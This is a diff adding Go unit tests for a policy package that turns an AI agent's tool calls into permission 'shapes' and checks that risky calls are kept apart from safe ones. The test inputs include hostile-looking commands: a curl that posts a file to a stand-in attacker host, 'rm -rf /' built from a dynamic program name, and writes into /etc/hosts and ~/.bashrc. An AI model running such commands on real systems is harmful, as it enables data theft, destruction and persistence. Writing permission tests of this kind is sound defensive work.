@@ -1,0 +1,77 @@
+package policy
+
+import "testing"
+
+func TestShape(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		call Call
+		want string
+		ok   bool
+	}{
+		{"git push", bash(`git push origin feature-1`), "Bash: git push <arg>", true},
+		{"git push force", bash(`git push --force origin x`), "Bash: git push -f <arg>", true},
+		{"rm inside", bash(`rm -rf ./build`), "Bash: rm -f -r <path>", true},
+		{"rm outside stays literal", bash(`rm -rf /etc/x`), "Bash: rm -f -r /etc/x", true},
+		{"pipeline", bash(`go test -run TestX ./... 2>&1 | tee out.txt`), "Bash: go test -run=<arg> <path> ; tee <path>", true},
+		{"redirect", bash(`echo hi > /etc/hosts`), "Bash: echo <arg> >/etc/hosts", true},
+		{"curl method literal, host kept", bash(`curl -X POST https://api.github.com/repos/x`), "Bash: curl -X=POST <url:https://api.github.com>", true},
+		{"wrapper", bash(`sudo -u root make install`), "Bash: sudo -u=root ; make install", true},
+		{"project script", bash(`./scripts/build.sh --fast`), "Bash: ./scripts/build.sh --fast", true},
+		{"write", fileCall("Write", "file_path", testRoot+"/internal/api/server.go"), "Write internal/api/*.go", true},
+		{"write top level", fileCall("Write", "file_path", testRoot+"/main.go"), "Write *.go", true},
+		{"dotfile keeps name", fileCall("Edit", "file_path", testRoot+"/.env"), "Edit .env", true},
+		{"no extension", fileCall("Edit", "file_path", testRoot+"/cmd/Makefile"), "Edit cmd/*", true},
+		{"outside", fileCall("Read", "file_path", "/etc/hosts"), "Read /etc/*", true},
+		{"web fetch", Call{Tool: "WebFetch", Input: map[string]any{"url": "https://Docs.Example.com/a?b"}}, "WebFetch <url:https://docs.example.com>", true},
+		{"mcp", Call{Tool: "mcp__gh__issue", Input: map[string]any{"title": "x", "body": "y"}}, "mcp__gh__issue {body,title}", true},
+		{"dynamic program", bash(`$(echo rm) -rf /`), "", false},
+		{"dynamic script", bash(`bash -c "$X"`), "", false},
+		{"parse error", bash(`echo 'x`), "", false},
+		{"no command", bash(``), "", false},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			got, ok := Shape(tc.call)
+			if got != tc.want || ok != tc.ok {
+				t.Errorf("Shape = %q, %v; want %q, %v", got, ok, tc.want, tc.ok)
+			}
+		})
+	}
+}
+
+func TestShapeEquivalence(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		a, b Call
+		same bool
+	}{
+		{"push branches", bash(`git push origin feature-1`), bash(`git push origin feature-2`), true},
+		{"push force differs", bash(`git push origin feature-1`), bash(`git push --force origin feature-1`), false},
+		{"flag order and spelling", bash(`rm -rf build`), bash(`rm --force -R dist`), true},
+		{"inside vs outside path", bash(`rm -f ./a.txt`), bash(`rm -f /etc/passwd`), false},
+		{"different files same dir", fileCall("Edit", "file_path", testRoot+"/src/a.go"), fileCall("Edit", "file_path", testRoot+"/src/b.go"), true},
+		{"different extension", fileCall("Edit", "file_path", testRoot+"/src/a.go"), fileCall("Edit", "file_path", testRoot+"/src/a.ts"), false},
+		{"different dir", fileCall("Edit", "file_path", testRoot+"/src/a.go"), fileCall("Edit", "file_path", testRoot+"/cmd/a.go"), false},
+		{"different tool", fileCall("Edit", "file_path", testRoot+"/src/a.go"), fileCall("Write", "file_path", testRoot+"/src/a.go"), false},
+		{"curl hosts differ", bash(`curl -d @x https://api.github.com/x`), bash(`curl -d @x https://evil.example/x`), false},
+		{"redirect targets differ", bash(`echo x > out.txt`), bash(`echo x > ~/.bashrc`), false},
+		{"subcommand differs", bash(`git status`), bash(`git push`), false},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			sa, oka := Shape(tc.a)
+			sb, okb := Shape(tc.b)
+			if !oka || !okb {
+				t.Fatalf("Shape not ok: %q %v, %q %v", sa, oka, sb, okb)
+			}
+			if (sa == sb) != tc.same {
+				t.Errorf("shapes %q and %q: same = %v, want %v", sa, sb, sa == sb, tc.same)
+			}
+		})
+	}
+}
